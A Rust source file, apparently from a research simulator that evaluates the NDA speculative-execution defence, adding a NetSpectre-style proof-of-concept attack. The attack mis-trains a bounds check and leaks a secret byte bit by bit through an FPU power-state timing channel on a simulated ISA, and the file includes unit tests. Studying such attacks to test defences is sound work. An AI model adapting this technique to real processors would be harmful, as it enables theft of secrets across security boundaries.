@@ -1,0 +1,158 @@
+//! NetSpectre-style attack via the FPU power-state covert channel.
+//!
+//! No cache line is ever inspected: the transmitter is a *multiply*
+//! executed (or not) on the wrong path depending on one secret bit. The
+//! multiply wakes the powered-down multiply unit; the receiver times its
+//! own multiply — fast if the unit is awake (bit = 1), slow by the
+//! wake-up penalty if not (bit = 0). One bit per measurement, eight
+//! measurements per byte.
+//!
+//! The inner bit-test branch is resolved only on the wrong path, so it
+//! never commits and never trains the direction predictor — its cold
+//! not-taken prediction keeps the multiply off the predicted path, making
+//! the transmission deterministic: the multiply executes *only* when the
+//! resolved secret bit redirects the wrong-path fetch to it.
+//!
+//! This channel defeats every cache-centric defense (InvisiSpec, delay-
+//! on-miss); NDA blocks it at the source because the secret value never
+//! reaches the bit-test.
+
+use crate::layout::*;
+use crate::util;
+use nda_isa::{Asm, Program, Reg};
+
+/// Cycles of FPU idling between measurements (> power-down threshold).
+const IDLE_SPIN: u64 = 320;
+/// Training calls before each measured transmission.
+const TRAININGS: u64 = 8;
+
+/// Build the attack program for `secret`. Requires the core's
+/// `fpu_power_model` (see `AttackKind::tweak_config`).
+pub fn program(secret: u8) -> Program {
+    let mut asm = Asm::new();
+    let main = asm.new_label();
+    let victim = asm.new_label();
+    asm.jmp(main);
+
+    // victim(x in X2, bit index in X11): Spectre-v1 shaped, but the
+    // wrong-path gadget transmits one bit through the multiplier.
+    asm.bind(victim);
+    let vout = asm.new_label();
+    let do_mul = asm.new_label();
+    let after = asm.new_label();
+    asm.li(Reg::X3, ARRAY_SIZE_ADDR);
+    asm.ld8(Reg::X4, Reg::X3, 0); // flushed: the speculation window
+    asm.bgeu(Reg::X2, Reg::X4, vout);
+    asm.li(Reg::X5, ARRAY_BASE);
+    asm.add(Reg::X5, Reg::X5, Reg::X2);
+    asm.ld1(Reg::X6, Reg::X5, 0); // access the secret byte
+    asm.alu(nda_isa::AluOp::Shr, Reg::X6, Reg::X6, Reg::X11);
+    asm.andi(Reg::X6, Reg::X6, 1);
+    // Bit test: only ever resolved on the wrong path -> never committed ->
+    // never trained -> always predicted not-taken (skip the multiply).
+    asm.bne(Reg::X6, Reg::X0, do_mul);
+    asm.jmp(after);
+    asm.bind(do_mul);
+    asm.li(Reg::X7, 123);
+    asm.mul(Reg::X8, Reg::X7, Reg::X7); // wakes the FPU iff bit == 1
+    asm.bind(after);
+    asm.nop();
+    asm.bind(vout);
+    asm.ret();
+
+    // --- main -----------------------------------------------------------
+    asm.bind(main);
+    // Warm the secret line; probe array is unused (no cache channel!).
+    asm.li(Reg::X2, SECRET_ADDR);
+    asm.ld1(Reg::X3, Reg::X2, 0);
+    asm.fence();
+
+    // Per-bit measurement loop: bit index in X12.
+    let bit_loop = asm.new_label();
+    let train_loop = asm.new_label();
+    let idle_loop = asm.new_label();
+    asm.li(Reg::X12, 0);
+    asm.bind(bit_loop);
+    asm.mov(Reg::X11, Reg::X12); // bit index for the victim
+
+    // 1. Idle the multiplier past its power-down threshold. Training
+    //    calls never touch it (the in-bounds array is all zero bits), so
+    //    the unit stays asleep until the transmission.
+    asm.fence();
+    asm.li(Reg::X9, IDLE_SPIN);
+    asm.bind(idle_loop);
+    asm.subi(Reg::X9, Reg::X9, 1);
+    asm.bne(Reg::X9, Reg::X0, idle_loop);
+    asm.fence();
+
+    // 2. Mis-train and transmit in ONE loop (7 in-bounds calls, then the
+    //    out-of-bounds call, selected branchlessly) so the bounds check
+    //    sees identical branch history on every iteration — the same
+    //    alignment trick as the Listing-1 PoC.
+    asm.li(Reg::X9, 0);
+    asm.bind(train_loop);
+    asm.fence();
+    util::emit_select_input(&mut asm, Reg::X9, MAL_INDEX, Reg::X2);
+    asm.li(Reg::X3, ARRAY_SIZE_ADDR);
+    asm.clflush(Reg::X3, 0);
+    asm.call(victim);
+    asm.addi(Reg::X9, Reg::X9, 1);
+    asm.li(Reg::X26, TRAININGS);
+    asm.bltu(Reg::X9, Reg::X26, train_loop);
+    asm.fence();
+
+    // 4. Receive: time a multiply.
+    asm.rdcycle(Reg::X14);
+    asm.li(Reg::X7, 77);
+    asm.mul(Reg::X8, Reg::X7, Reg::X7);
+    asm.rdcycle(Reg::X15);
+    asm.sub(Reg::X16, Reg::X15, Reg::X14);
+    asm.shli(Reg::X17, Reg::X12, 3);
+    asm.li(Reg::X18, RESULTS_BASE);
+    asm.add(Reg::X17, Reg::X17, Reg::X18);
+    asm.st8(Reg::X16, Reg::X17, 0);
+    asm.fence();
+
+    asm.addi(Reg::X12, Reg::X12, 1);
+    asm.li(Reg::X26, 8);
+    asm.bltu(Reg::X12, Reg::X26, bit_loop);
+    asm.halt();
+
+    let mut p = asm.assemble().expect("netspectre assembles");
+    p.data.push(nda_isa::DataInit {
+        addr: ARRAY_SIZE_ADDR,
+        bytes: ARRAY_LEN.to_le_bytes().to_vec(),
+    });
+    p.data.push(nda_isa::DataInit { addr: ARRAY_BASE, bytes: vec![0u8; ARRAY_LEN as usize] });
+    p.data.push(nda_isa::DataInit { addr: SECRET_ADDR, bytes: vec![secret] });
+    let _ = util::GUESS; // shared layout only; no cache recover loop here
+    p
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use nda_isa::Interp;
+
+    #[test]
+    fn architecturally_clean() {
+        let p = program(0b0010_1010);
+        let mut i = Interp::new(&p);
+        let exit = i.run(20_000_000).expect("halts");
+        assert!(exit.halted);
+        assert_eq!(exit.faults, 0);
+        // Eight per-bit timing slots were written.
+        for b in 0..8u64 {
+            assert!(i.mem.read(RESULTS_BASE + 8 * b, 8) > 0, "bit {b} never measured");
+        }
+    }
+
+    #[test]
+    fn training_array_is_all_zero_bits() {
+        // In-bounds training values must transmit nothing (all bits 0), or
+        // the decoy would warm the FPU right before the idle spin ends.
+        let p = program(7);
+        let init = p.data.iter().find(|d| d.addr == ARRAY_BASE).unwrap();
+        assert!(init.bytes.iter().all(|&b| b == 0));
+    }
+}
